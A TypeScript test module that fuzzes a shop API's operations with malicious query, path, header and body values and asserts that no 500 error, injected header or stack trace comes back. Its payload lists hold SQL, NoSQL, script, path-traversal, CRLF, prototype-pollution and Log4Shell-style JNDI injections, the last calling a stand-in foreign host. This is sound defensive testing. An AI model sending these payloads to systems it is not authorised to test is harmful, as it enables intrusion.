/** The requests of the run with malicious values: no internal error, no undeclared status, no stack trace. */
import { contract, operations } from '@shop/contract'
import * as z from 'zod/mini'
import { type Route, responseSchema } from '../check-response.ts'
import { isObject, shorten } from '../describe.ts'
import { CONNECTION_CLOSED, type OperationRequest } from '../http.ts'
import type { Run } from '../run.ts'
import { createAccount } from './accounts.ts'
import { fillCart, type Product } from './carts.ts'
import { idempotencyKey, newEmail } from './requests.ts'

/** Sent as JSON in bodies, as text in queries and paths. */
const MALICIOUS_VALUES: readonly unknown[] = [
  null,
  -1,
  1e308,
  18_014_398_509_481_984,
  '',
  [],
  [['nested'], { key: {} }],
  { $gt: '' },
  `' OR '1'='1' -- `,
  '<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.png',
  '$\u007bjndi:ldap://foreign-host.example/x}{{7*7}}',
  'value\r\nX-Injected: 1',
  '\ud800 \u202e \u{1f600}',
  'x'.repeat(1_500),
]

const MALICIOUS_BODIES: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  '{"unfinished":',
  '\u0000',
]

const STACK_TRACE =
  /\n\s+at .+:\d+:\d+|Traceback \(most recent call last\)|\.php(?:\(\d+\)|:\d+| on line \d+)|SQLSTATE\[|SQLITE_ERROR|syntax error at or near|java\.lang\.|System\.\w+Exception|"(?:trace|stack|stacktrace)":/

export async function checkMaliciousInput(run: Run, products: readonly Product[]): Promise<void> {
  const account = await createAccount(run)
  const token = account?.token
  const profile = await run.request(contract.profile.detail, { token })
  const cart = await fillCart(run, products.slice(0, 1), token)
  const { cart_uid = '', cart_id = 1 } = cart ?? {}
  const customer_id = profile.body?.data?.customer_id ?? 1
  const keys = { email: newEmail(), ...account, customer_id, cart_uid, cartUid: cart_uid, cart_id }
  // The sign-out last, because the others need the session.
  const sorted = operations.toSorted((a, b) => Number(a.name === 'auth.signout') - Number(b.name === 'auth.signout'))
  for (const { name, route } of sorted) {
    if (!run.isSelected(name)) continue
    const { token: used, body, query, params, headers }: OperationRequest = run.sent.get(name)?.request ?? {}
    // The keys of the recorded request are used up.
    const own = name === 'auth.signup' ? { ...keys, email: newEmail() } : keys
    const parts = { query: renewed(query, own), params: renewed(params, own), headers: headers ?? {} }
    const valid = { ...parts, token: used && token, body: isFields(body) ? renewed<unknown>(body, own) : body }
    for (const malicious of maliciousRequests(route, valid)) await sendMalicious(run, route, malicious)
  }
  await run.request(contract.catalog.products)
}

const isFields = (body: unknown): body is Record<string, unknown> => isObject(body) && !(body instanceof FormData)

function renewed<V>(part: Readonly<Record<string, V>> = {}, keys: Readonly<Record<string, V>>): Record<string, V> {
  return Object.fromEntries(Object.entries(part).map(([key, value]) => [key, keys[key] ?? value]))
}

function* maliciousRequests(route: Route, valid: OperationRequest): Generator<OperationRequest> {
  for (const part of ['query', 'params', 'headers'] as const) {
    for (const key of Object.keys(valid[part] ?? {})) {
      for (const value of MALICIOUS_VALUES) {
        const text = typeof value === 'string' ? value : JSON.stringify(value)
        // Node.js sends no other headers.
        if (part !== 'headers' || /^[ -~]*$/.test(text))
          yield { ...valid, [part]: { ...valid[part], [key]: text || ' ' } }
      }
    }
  }
  if (route.method === 'GET' || !('body' in route)) return
  for (const path of fieldPaths(valid.body)) {
    for (const value of [undefined, ...MALICIOUS_VALUES]) yield { ...valid, body: changed(valid.body, path, value) }
  }
  for (const body of MALICIOUS_BODIES) yield { ...valid, body }
  const headers = { ...valid.headers, 'content-type': 'multipart/form-data; boundary=' }
  yield { ...valid, body: 'x', headers }
}

/** The paths of all fields of an object, nested ones included. */
function fieldPaths(body: unknown): string[][] {
  if (!isFields(body)) return []
  return Object.entries(body).flatMap(([key, value]) => [[key], ...fieldPaths(value).map((path) => [key, ...path])])
}

/** A copy of a body with another value at a path. */
function changed(body: unknown, [key, ...rest]: readonly string[], value: unknown): unknown {
  if (key === undefined) return value
  const owner = isObject(body) ? body : {}
  return { ...owner, [key]: changed(Reflect.get(owner, key), rest, value) }
}

async function sendMalicious(run: Run, route: Route, request: OperationRequest): Promise<void> {
  // A used key would hide the body behind 409.
  const isUuid = z.safeParse(z.uuid(), request.headers?.['idempotency-key']).success
  const headers = { ...request.headers, ...(isUuid && idempotencyKey()) }
  const response = await run.send(route, { ...request, headers })
  const { status, text, operation } = response
  if (status === CONNECTION_CLOSED) return
  const holds = (isHeld: boolean, path: string, expected: string, received: string) =>
    run.holds(response, 'malicious input', isHeld, path, expected, received)
  const declared = Object.keys(operation.route.responses).filter((each) => Number(each) < 500)
  const isDeclared = status < 500 && responseSchema(operation, status) !== undefined
  holds(isDeclared, 'status', declared.join(', '), String(status))
  holds(response.headers['x-injected'] === undefined, 'header x-injected', 'no such header', 'x-injected')
  const trace = STACK_TRACE.exec(text)
  holds(trace === null, 'body', 'no stack trace', JSON.stringify(shorten(text.slice(trace?.index ?? 0), 80)))
}
